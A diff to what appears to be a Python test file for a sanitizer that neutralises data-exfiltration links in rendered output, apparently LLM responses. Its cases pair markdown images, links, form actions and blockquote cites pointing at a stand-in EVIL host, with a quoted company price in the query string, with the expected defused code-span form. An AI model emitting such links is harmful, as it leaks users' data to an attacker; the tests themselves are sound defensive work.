@@ -65,6 +65,8 @@ CASES = [
     (f"[![a]({EVIL}/x.png)][r]\n\n[r]: https://example.com/page?a=1", "[a][r]\n\n[r]: https://example.com/page?a=1"),
     (f"[![a]({EVIL}/x.png)][nope]", "[a][nope]"),
     (f"见 {EVIL}/?q=星河公司报价, 后面", f"见 `{EVIL}/?q=星河公司报价`, 后面"),
+    (f"[x](<{EVIL}/?q=星河公司报价>)", f"x（`{EVIL}/?q=星河公司报价`）"),
+    (f"[{EVIL}/?q=星河公司报价](<{EVIL}/?q=星河公司报价>)", f"`{EVIL}/?q=星河公司报价`"),
     (f'<form action="{EVIL}/?q=星河公司报价">', f"`{EVIL}/?q=星河公司报价`"),
     (f'<form action="{EVIL}/docs">', f'<form action="{EVIL}/docs">'),
     (f"<blockquote cite='{EVIL}/?q=星河公司报价'>", f"`{EVIL}/?q=星河公司报价`"),
